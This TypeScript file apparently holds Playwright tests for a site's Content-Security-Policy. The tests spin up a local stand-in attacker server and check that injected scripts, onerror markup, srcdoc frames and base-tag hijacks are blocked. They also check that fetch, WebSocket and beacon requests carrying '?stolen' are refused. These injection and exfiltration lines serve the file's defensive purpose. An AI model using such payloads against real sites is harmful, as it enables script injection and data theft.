import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { CspEvaluator } from 'csp_evaluator';
import { Severity } from 'csp_evaluator/dist/finding.js';
import { CspParser } from 'csp_evaluator/dist/parser.js';
import type { Page } from 'playwright/test';
import { expect, hydrate, test } from '../fixtures';
import { pages, site } from '../registry';

/* That nothing of the site's own is refused, every test of this folder shows: a refusal is an error on
 * the browser's console, and ends the test that it happens in. */

test('no page’s policy has a finding of high severity', async ({ request }) => {
  for (const href of [...pages.map(({ href }) => href), '/NoSuchPage']) {
    const html = await (await request.get(href)).text();
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
    const findings = new CspEvaluator(new CspParser(policy ?? '').csp).evaluate();
    expect(
      findings.filter(({ severity }) => severity <= Severity.MEDIUM),
      href,
    ).toEqual([]);
  }
});

/** A server of another origin, which must never be asked for anything. */
const attackerRequests: string[] = [];
const attacker = createServer((request, answer) => {
  attackerRequests.push(request.url ?? '');
  answer.setHeader('access-control-allow-origin', '*').end('window.taken = true');
});
let attackerOrigin = '';

test.beforeAll(async () => {
  await new Promise<void>((listening) => attacker.listen(0, '127.0.0.1', listening));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});
test.afterAll(() => attacker.close());

/** Keeps the directives under which the page's policy has refused something. */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const heard: string[] = [];
    Reflect.set(window, 'heard', heard);
    window.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      heard.push(effectiveDirective);
    });
  });
}

const violationsOn = (page: Page) => page.evaluate((): string[] => Reflect.get(window, 'heard'));
const isCompromised = (page: Page) => page.evaluate(() => Reflect.has(window, 'taken'));

/** What a script that has got into the page might try, and under which directive it is refused. */
const attempts: [what: string, directive: string, run: (elsewhere: string) => unknown][] = [
  [
    'a script of its own',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.taken = true';
      document.body.append(script);
    },
  ],
  [
    'a script from elsewhere',
    'require-trusted-types-for',
    (origin) => {
      const script = document.createElement('script');
      script.src = `${origin}/a.js`;
      document.body.append(script);
    },
  ],
  [
    'a file of the site that is none of its scripts',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.src = '/_next/static/../../search.json';
      document.body.append(script);
    },
  ],
  [
    'a text as a program',
    'require-trusted-types-for',
    () => Reflect.construct(Function, ['window.taken = true'])(),
  ],
  ['a text for later', 'require-trusted-types-for', () => setTimeout('window.taken = true')],
  [
    'markup',
    'require-trusted-types-for',
    () => {
      document.body.innerHTML += '<img src="/none.png" onerror="window.taken = true">';
    },
  ],
  [
    'a handler in an attribute',
    'require-trusted-types-for',
    () => document.body.setAttribute('onclick', 'window.taken = true'),
  ],
  ['a worker', 'require-trusted-types-for', () => new Worker('/search.json')],
  [
    'a frame with a document of its own',
    'require-trusted-types-for',
    () => {
      document.createElement('iframe').srcdoc = '<script>parent.taken = true</script>';
    },
  ],
  [
    'a policy of its own',
    'trusted-types',
    () => Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: String }),
  ],
  ['a request elsewhere', 'connect-src', (origin) => fetch(`${origin}/?stolen`)],
  [
    'a socket elsewhere',
    'connect-src',
    (origin) => new WebSocket(`${origin.replace('http', 'ws')}/?stolen`),
  ],
  ['a message left behind', 'connect-src', (origin) => navigator.sendBeacon(`${origin}/?stolen`)],
  [
    'a picture from elsewhere',
    'img-src',
    (origin) => {
      new Image().src = `${origin}/?stolen`;
    },
  ],
  [
    'a frame from elsewhere',
    'frame-src',
    (origin) => {
      const frame = document.createElement('iframe');
      frame.src = origin;
      document.body.append(frame);
    },
  ],
  [
    'a form to elsewhere',
    'form-action',
    (origin) => {
      const form = document.createElement('form');
      form.action = origin;
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'another base for addresses',
    'base-uri',
    (origin) => {
      const base = document.createElement('base');
      base.href = origin;
      document.head.append(base);
    },
  ],
  [
    'a style of its own',
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.append('main { display: none }');
      document.head.append(style);
    },
  ],
];

test('what a foreign script tries in a page is refused', async ({ consoleErrors, page }) => {
  await recordViolations(page);
  await page.goto('/About');
  await hydrate(page);
  const base = await page.evaluate(() => document.baseURI);

  for (const [what, directive, run] of attempts) {
    await test.step(what, async () => {
      const before = (await violationsOn(page)).length;
      // What a test evaluates may evaluate texts itself, for as long as it runs.
      await page.evaluate(
        ([source, origin]) => {
          const run: (origin: string) => unknown = Function(`return ${source}`)();
          setTimeout(() => Promise.resolve(run(origin)).catch(() => {}));
        },
        [String(run), attackerOrigin] as const,
      );
      await expect
        .poll(async () => (await violationsOn(page)).slice(before), what)
        .toContain(directive);
    });
  }
  expect(await isCompromised(page)).toBe(false);
  expect(await page.evaluate(() => document.baseURI)).toBe(base);
  expect(attackerRequests).toEqual([]);
  await page.close();
  expect(consoleErrors.splice(0).length).toBeGreaterThanOrEqual(attempts.length);
});

test('markup that has got into a page brings neither scripts, styles nor a base', async ({
  consoleErrors,
  page,
}) => {
  await recordViolations(page);
  await page.route('**/About', async (route) => {
    const response = await route.fetch();
    const injected = `<script>window.taken = true</script><script src="${attackerOrigin}/a.js"></script><p style="color: red" onclick="window.taken = true">Added</p>`;
    const html = (await response.text())
      .replace('</title>', `</title><base href="${attackerOrigin}">`)
      .replace('</body>', `${injected}</body>`);
    await route.fulfill({ response, body: html });
  });
  await page.goto('/About');
  await expect
    .poll(async () => [...new Set(await violationsOn(page))].toSorted())
    .toEqual(['base-uri', 'script-src-attr', 'script-src-elem', 'style-src-attr']);
  expect(await isCompromised(page)).toBe(false);
  await hydrate(page);
  expect(attackerRequests).toEqual([]);
  await page.close();
  consoleErrors.splice(0);
});

/** A page of each kind: with a film, agents, tables, structured data of each type, and with nothing. */
const kinds = ['AITeam', 'Capabilities', 'ISO', 'About', 'Careers', 'PrivacyPolicy'];
const linkedPages = pages.flatMap((page) =>
  kinds.includes(page.name) && page.footer !== undefined ? [{ ...page, footer: page.footer }] : [],
);

for (const start of ['/', '/ShiftLog', '/PrivacyPolicy', '/NoSuchPage']) {
  test(`under the policy of ${start} a reader goes on to pages of every kind`, async ({ page }) => {
    await page.goto(start);
    await hydrate(page);
    await page.evaluate(() => Reflect.set(window, 'first', true));
    const footer = page.getByRole('contentinfo');
    expect(linkedPages).toHaveLength(kinds.length);
    for (const { footer: place, href, title } of linkedPages) {
      await footer.getByRole('link', { name: place.label, exact: true }).click();
      await expect(page).toHaveURL(href);
      await expect(page).toHaveTitle(`${title} | ${site.name}`);
    }
    // Still the document that the first page came with, and its policy.
    expect(await page.evaluate(() => Reflect.has(window, 'first'))).toBe(true);
  });
}
